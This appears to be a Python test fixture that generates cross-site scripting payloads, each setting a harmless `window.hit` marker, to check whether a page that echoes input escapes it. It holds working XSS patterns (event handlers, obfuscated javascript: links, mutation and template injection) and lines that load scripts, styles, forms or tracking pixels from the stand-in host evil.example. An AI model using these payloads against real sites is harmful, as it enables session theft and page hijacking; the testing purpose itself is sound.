"""Texts that would run in a page that pastes what it is told; each sets `window.hit` where it gets through."""

from __future__ import annotations

RUN = "window.hit=1"
TAGS = (
    *("img", "svg", "video", "audio", "body", "iframe", "input autofocus", "details open"),
    *("marquee", "object", "math", "a"),
)
EVENTS = ("onload", "onerror", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationstart", "onpointerenter")
LINKS = (
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1",
    "java\tscript:window.hit=1",
    " javascript:window.hit=1",
    "javascript&colon;window.hit=1",
    "&#106;avascript:window.hit=1",
    "vbscript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    "//evil.example/x.js",
    "\u0001javascript:window.hit=1",
    "javascript://%0awindow.hit=1",
)
WRITTEN = (
    "<script>window.hit=1</script>",
    "<ScRiPt>window.hit=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "</textarea><script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "--><script>window.hit=1</script>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example/><input type=submit></form>",
    "<img src=//evil.example/pixel.png>",
    "![picture](https://evil.example/pixel.png)",
    "[name](<javascript:window.hit=1>)",
    '[name](https://x.example/"onmouseover="window.hit=1)',
    "<javascript:window.hit=1>",
    "<https://x.example/><script>window.hit=1</script>",
    "`<script>window.hit=1</script>`",
    "```html\n<script>window.hit=1</script>\n```",
    "| a | <img src=x onerror=window.hit=1> |\n|---|---|\n| b | c |",
    "# <img src=x onerror=window.hit=1>",
    "* <img src=x onerror=window.hit=1>",
    "> <img src=x onerror=window.hit=1>",
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1}",
    "__proto__[hit]=1",
    '"><script>window.hit=1</script>',
    "'><script>window.hit=1</script>",
    "'-(window.hit=1)-'",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "\u202e<script>window.hit=1</script>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "<!--<img src='--><img src=x onerror=window.hit=1>'>",
    "<a href='javascript:window.hit=1'>press</a>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
)
PAYLOADS = (
    *WRITTEN,
    *(f"[press]({link})" for link in LINKS),
    *(f"<{tag} src=x {event}={RUN}>" for tag in TAGS for event in EVENTS),
)
